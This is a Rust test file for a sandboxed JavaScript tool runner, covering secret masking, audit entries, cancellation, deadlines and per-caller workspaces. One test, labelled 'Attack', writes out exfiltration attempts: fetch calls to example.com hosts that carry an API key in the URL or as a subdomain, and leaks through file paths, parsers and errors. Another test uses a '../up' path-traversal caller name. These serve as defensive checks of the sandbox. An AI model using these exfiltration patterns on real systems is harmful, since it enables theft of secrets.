//! One call: what comes back, what is written down, and how it is stopped.

use std::sync::Arc;
use std::time::{Duration, Instant};

use engine::call::CallRequest;
use model::caller::{Caller, Origin};
use model::record::audit::Status;
use serde_json::json;
use store::Filter;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

use crate::catalog_lab;
use crate::world::{Home, World, document, error};

#[tokio::test]
async fn results_keep_their_shape() {
    let world = World::new();
    let code = "console.log('hi', who); console.warn('w'); return { who, n: [1, 2.5, null] }";
    let params = json!({"params": [{"name": "who", "type": "STRING", "required": true, "testValue": "t"}], "category": "TEXT"});
    world.published(&document("shape", code, params)).await;
    let outcome = world.call("shape", json!({"who": "Ada"})).await;
    assert_eq!(outcome.status, Status::Done);
    assert_eq!(
        outcome.value,
        Some(json!({"who": "Ada", "n": [1, 2.5, null]}))
    );
    assert_eq!(outcome.text(), r#"{"who":"Ada","n":[1,2.5,null]}"#);
    let lines: Vec<_> = outcome
        .console
        .iter()
        .map(|line| (line.level, line.text.as_str()))
        .collect();
    assert_eq!(lines, [("log", "hi Ada"), ("warn", "w")]);
    assert!(outcome.elapsed_us > 0);
    let entry = world.entry(&outcome);
    assert_eq!(entry.opening.caller, "ann");
    assert_eq!(entry.opening.tool, "shape");
    let closing = entry.closing.unwrap();
    assert_eq!(closing.status, Status::Done);
    assert_eq!(closing.arguments, Some(json!({"who": "Ada"})));
    let facts = closing.tool.unwrap();
    assert_eq!((facts.name.as_str(), facts.risk.as_str()), ("shape", "L0"));
    assert_eq!(facts.category.as_deref(), Some("TEXT"));
    let tool = world.engine.tool("shape").unwrap();
    let safety = tool.usable.safety();
    assert_eq!(facts.tool_safety, serde_json::to_value(safety).unwrap());
    let timing = closing.timing.unwrap();
    assert!(timing.total_us >= timing.run_us && timing.run_us >= timing.cpu_us);
    let digest = model::document::digest::of_value(outcome.value.as_ref().unwrap()).unwrap();
    assert_eq!(closing.result_digest, Some(digest));
}

#[tokio::test]
async fn undefined_and_errors() {
    let world = World::new();
    world
        .published(&document("nothing", "let a = 1", json!({})))
        .await;
    let outcome = world.call("nothing", json!({})).await;
    assert_eq!(
        (outcome.status, outcome.text().as_str()),
        (Status::Done, "undefined")
    );
    world.published(&document("throws", "if (typeof fail !== 'undefined' && fail) throw new TypeError('no')", json!({"params": [{"name": "fail", "type": "BOOLEAN", "required": false, "testValue": "false"}]}))).await;
    let outcome = world.call("throws", json!({"fail": true})).await;
    assert_eq!(outcome.status, Status::Failed);
    assert_eq!(error(&outcome), ("tool.threw", "TypeError: no"));
    let closing = world.entry(&outcome).closing.unwrap();
    assert_eq!(closing.error.unwrap().code, "tool.threw");
}

/// A secret is masked in the result, the console, the error, and every part of
/// the record; it is never in the arguments' place.
#[tokio::test]
async fn secrets_do_not_leave() {
    let home = Home::new();
    home.file("secrets.env", "API_KEY=sk-very-secret-value\n");
    set_private(&home);
    let world = World::with(home, |_| ());
    let code = "console.log(key); if (mode === 'throw') throw new Error(key + mode); return { key, text: mode }";
    let more = json!({
        "params": [{"name": "mode", "type": "STRING", "required": true, "testValue": "t"}],
        "staticVariables": [{"key": "${API_KEY}"}],
    });
    world.published(&document("leaky", code, more)).await;
    for mode in ["return", "throw", "sk-very-secret-value"] {
        let outcome = world.call("leaky", json!({"mode": mode})).await;
        let entry = serde_json::to_string(&world.entry(&outcome)).unwrap();
        let shown = outcome.to_json().to_string();
        assert!(!shown.contains("very-secret"), "{shown}");
        assert!(!entry.contains("very-secret"), "{entry}");
        assert!(shown.contains("***"), "{shown}");
    }
}

/// Attack: whoever calls chooses how long the text before a key is, and so where the
/// runtime would cut it. No way out shows more than three characters of the key.
#[tokio::test]
async fn no_cut_leaves_a_piece_of_a_secret() {
    // No piece of it is hexadecimal, or a digest in the record would hold one by chance.
    const KEY: &str = "sk-live-qzwxuvtrpnmkjhgyqzuwxvrtpnkmhjygzqxwvutr";
    let home = Home::new();
    home.file("secrets.env", &format!("API_KEY={KEY}\n"));
    set_private(&home);
    let world = World::with(home, |_| ());
    let code = r#"
        const text = 'x'.repeat(size) + key;
        const spelt = how === 'json' ? JSON.stringify(JSON.stringify('"' + text)) : how === 'uri' ? encodeURI(text + '%') : text;
        console.log(spelt);
        if (where === 'url') await fetch('http://exa mple/' + spelt);
        if (where === 'scheme') await fetch('ftp://a.example.com/?' + spelt);
        if (where === 'host') await fetch('http://' + key + '.example.com/');
        if (where === 'path') safety.fs.readText(spelt);
        if (where === 'yaml') safety.parser.yaml('!!int ' + spelt);
        if (where === 'xml') safety.parser.xml('<a>&' + spelt + ';</a>');
        if (where === 'name') { const e = new Error('x'); e.name = spelt; throw e; }
        if (where === 'throw') throw new Error(spelt);
        return spelt;
    "#;
    let text = |name: &str| json!({"name": name, "type": "STRING", "required": true, "testValue": "plain"});
    let more = json!({
        "params": [text("where"), text("how"), {"name": "size", "type": "INTEGER", "required": true, "testValue": "1"}],
        "staticVariables": [{"key": "${API_KEY}"}],
        "sandboxOverrides": {"networkMode": "strict", "fileRead": true},
    });
    world.published(&document("leaky", code, more)).await;
    let mut wheres = vec![
        "url", "scheme", "host", "path", "yaml", "xml", "name", "throw", "return",
    ];
    wheres.sort_unstable();
    for place in wheres {
        for how in ["plain", "json", "uri"] {
            // Around every length at which something is cut, and beyond what is kept.
            for size in [0, 19, 98, 118, 210, 230, 255, 280, 4_090, 32_740, 32_760] {
                let arguments = json!({"where": place, "how": how, "size": size});
                let outcome = world.call("leaky", arguments).await;
                let entry = serde_json::to_string(&world.entry(&outcome)).unwrap();
                let shown = outcome.to_json().to_string();
                for out in [entry, shown] {
                    let mut pieces = KEY.as_bytes().windows(6).map(String::from_utf8_lossy);
                    let piece = pieces.find(|piece| out.contains(&**piece));
                    assert_eq!(piece, None, "{place} {how} {size}: {out}");
                }
            }
        }
    }
}

fn set_private(home: &Home) {
    use std::os::unix::fs::PermissionsExt as _;
    let permissions = std::fs::Permissions::from_mode(0o600);
    std::fs::set_permissions(home.path.join("secrets.env"), permissions).unwrap();
}

#[tokio::test]
async fn digests_instead_of_arguments() {
    let world = World::new();
    world.published(&document("hello", "return 1", json!({"params": [{"name": "a", "type": "STRING", "required": false, "testValue": "t"}]}))).await;
    world
        .home
        .file("ringfence.toml", "[audit]\narguments = \"digest\"\n");
    let arguments = json!({"a": "private"});
    let outcome = world.call("hello", arguments.clone()).await;
    let entry = world.entry(&outcome);
    assert_eq!(
        entry.opening.arguments_digest,
        model::document::digest::of_value(&arguments).unwrap()
    );
    assert_eq!(entry.closing.unwrap().arguments, None);
}

#[tokio::test]
async fn cancelling_stops_the_sandbox() {
    let world = Arc::new(World::new());
    world.published(&document("spin", "if (!forever) return 1; while (true) {}", json!({
        "params": [{"name": "forever", "type": "BOOLEAN", "required": true, "testValue": "false"}],
    }))).await;
    let request = CallRequest::new(
        Caller::named("ann"),
        Origin::Mcp,
        "spin",
        json!({"forever": true}),
    );
    let cancel = request.cancel.clone();
    let started = Instant::now();
    let running = world.made(request);
    let stop = async {
        while world.engine.pool().await.unwrap().status().live_count == 0 {
            tokio::task::yield_now().await;
        }
        cancel.cancel();
    };
    let (outcome, ()) = tokio::join!(running, stop);
    assert_eq!(outcome.status, Status::Cancelled);
    assert_eq!(error(&outcome).0, "call.cancelled");
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(
        world.entry(&outcome).closing.unwrap().status,
        Status::Cancelled
    );
    // The worker is free again, or replaced.
    assert_eq!(
        world.call("spin", json!({"forever": false})).await.status,
        Status::Done
    );
}

/// Cancelling ends the request under way as well: the server sees it go.
#[tokio::test]
async fn cancelling_ends_the_request_in_flight() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let world = World::new();
    let code = format!("if (!go) return 0; await fetch('http://127.0.0.1:{port}/never')");
    let more = json!({
        "params": [{"name": "go", "type": "BOOLEAN", "required": true, "testValue": "false"}],
        "sandboxOverrides": {"networkMode": "allowlist", "hostsAllow": ["127.0.0.1"]},
    });
    world.published(&document("ask", &code, more)).await;
    let request = CallRequest::new(
        Caller::named("ann"),
        Origin::Mcp,
        "ask",
        json!({"go": true}),
    );
    let cancel = request.cancel.clone();
    let serve = async {
        let (mut stream, _) = listener.accept().await.unwrap();
        let mut seen = Vec::new();
        while !seen.ends_with(b"\r\n\r\n") {
            stream.read_buf(&mut seen).await.unwrap();
        }
        cancel.cancel();
        // Nothing was answered; what ends the connection is the other side.
        loop {
            match stream.read_buf(&mut seen).await {
                Ok(0) | Err(_) => break,
                Ok(_) => {}
            }
        }
    };
    let (outcome, ()) = tokio::join!(world.made(request), serve);
    assert_eq!(outcome.status, Status::Cancelled);
    let closing = world.entry(&outcome).closing.unwrap();
    assert_eq!(closing.events.len(), 1, "{:?}", closing.events);
    assert_eq!(closing.events[0]["host"], json!("127.0.0.1"));
}

/// The operator's own certificate authority is believed, and only if it is named.
#[tokio::test]
async fn the_operators_authority_is_believed() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let acceptor = catalog_lab::acceptor(&["localhost".to_owned()]);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let Ok(mut stream) = acceptor.accept(stream).await else {
                continue;
            };
            let mut seen = Vec::new();
            while !seen.ends_with(b"\r\n\r\n") {
                stream.read_buf(&mut seen).await.unwrap();
            }
            let reply = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nhi";
            stream.write_all(reply).await.unwrap();
            let _ = stream.shutdown().await;
        }
    });
    let code =
        format!("if (!go) return ''; return (await fetch('https://localhost:{port}/')).text()");
    let tool = document(
        "ask",
        &code,
        json!({
            "params": [{"name": "go", "type": "BOOLEAN", "required": true, "testValue": "false"}],
            "sandboxOverrides": {"networkMode": "allowlist", "hostsAllow": ["localhost"]},
        }),
    );
    for named in [false, true] {
        let home = Home::new();
        home.file("company.pem", catalog_lab::authority_pem());
        let ca_file = if named {
            "ca_file = \"company.pem\""
        } else {
            ""
        };
        let settings = format!("[network]\nprivate_hosts = [\"localhost\"]\n{ca_file}\n");
        home.file("ringfence.toml", &settings);
        let world = World::with(home, |_| ());
        world.published(&tool).await;
        let outcome = world.call("ask", json!({"go": true})).await;
        let expected = if named { Status::Done } else { Status::Failed };
        assert_eq!(outcome.status, expected, "{outcome:?}");
        assert_eq!(outcome.value.is_some(), named);
    }
}

/// With a folder for each caller, nobody sees another's files.
#[tokio::test]
async fn each_caller_has_a_workspace() {
    let home = Home::new();
    home.file("ringfence.toml", "[files]\nper_caller = true\n");
    let world = World::with(home, |_| ());
    let code =
        "const had = safety.fs.exists('a.txt'); safety.fs.writeText('a.txt', 'x'); return had";
    let more = json!({"sandboxOverrides": {"fileRead": true, "fileWrite": true}});
    world.published(&document("files", code, more)).await;
    for (caller, expected) in [("ann", false), ("bob", false), ("ann", true)] {
        let request = CallRequest::new(Caller::named(caller), Origin::Mcp, "files", json!({}));
        let outcome = world.made(request).await;
        assert_eq!(
            outcome.value,
            Some(json!(expected)),
            "{caller}: {outcome:?}"
        );
    }
    // A name that would lead out of the workspace is one folder inside it.
    let request = CallRequest::new(Caller::named("../up"), Origin::Mcp, "files", json!({}));
    assert_eq!(world.made(request).await.value, Some(json!(false)));
    let workspace = world.home.path.join("workspace");
    assert_eq!(std::fs::read_dir(workspace).unwrap().count(), 3);
    assert!(!world.home.path.join("up").exists());
}

#[tokio::test]
async fn a_deadline_of_the_call_holds() {
    let world = World::new();
    world.published(&document("spin", "if (!forever) return 1; while (true) {}", json!({
        "params": [{"name": "forever", "type": "BOOLEAN", "required": true, "testValue": "false"}],
    }))).await;
    let mut request = CallRequest::new(
        Caller::named("ann"),
        Origin::Mcp,
        "spin",
        json!({"forever": true}),
    );
    request.deadline = Some(Duration::from_millis(50));
    let outcome = world.made(request).await;
    assert_eq!(
        (outcome.status, error(&outcome).0),
        (Status::Failed, "call.deadline")
    );
}

/// A call whose future is dropped, as when a client goes away, is closed as
/// cancelled.
#[tokio::test]
async fn a_dropped_call_is_closed() {
    let world = World::new();
    world.published(&document("spin", "if (!forever) return 1; while (true) {}", json!({
        "params": [{"name": "forever", "type": "BOOLEAN", "required": true, "testValue": "false"}],
    }))).await;
    let request = CallRequest::new(
        Caller::named("gone"),
        Origin::Mcp,
        "spin",
        json!({"forever": true}),
    );
    let filter = Filter {
        caller: Some("gone".to_owned()),
        ..Filter::default()
    };
    let list = || world.engine.store().audit().list(&filter).unwrap();
    let mut call = Box::pin(world.made(request));
    while list().is_empty() {
        tokio::select! {
            biased;
            _ = call.as_mut() => panic!("the call ended"),
            () = tokio::task::yield_now() => {}
        }
    }
    // Where the machine stood still meanwhile, both may be due.
    tokio::select! {
        biased;
        // Sleeps: for so long the script runs. A fast machine uses its work up in 100 ms.
        () = tokio::time::sleep(Duration::from_millis(20)) => {}
        _ = call.as_mut() => panic!("the call ended"),
    }
    drop(call);
    let closed = loop {
        match list()[0].closing.clone() {
            Some(closing) => break closing,
            None => tokio::task::yield_now().await,
        }
    };
    assert_eq!(closed.status, Status::Cancelled);
}

#[tokio::test]
async fn many_calls_at_once_each_leave_one_entry() {
    let world = World::with(Home::new(), |settings| settings.single = false);
    world
        .published(&document(
            "id",
            "return n",
            json!({
                "params": [{"name": "n", "type": "INTEGER", "required": true, "testValue": "1"}],
            }),
        ))
        .await;
    let calls = (0..64).map(|n| world.call("id", json!({"n": n})));
    let outcomes = futures_util::future::join_all(calls).await;
    for (n, outcome) in outcomes.iter().enumerate() {
        assert_eq!(outcome.value, Some(json!(n)));
    }
    let filter = Filter {
        caller: Some("ann".to_owned()),
        limit: Some(500),
        ..Filter::default()
    };
    assert_eq!(
        world.engine.store().audit().list(&filter).unwrap().len(),
        64
    );
    world.assert_whole();
}
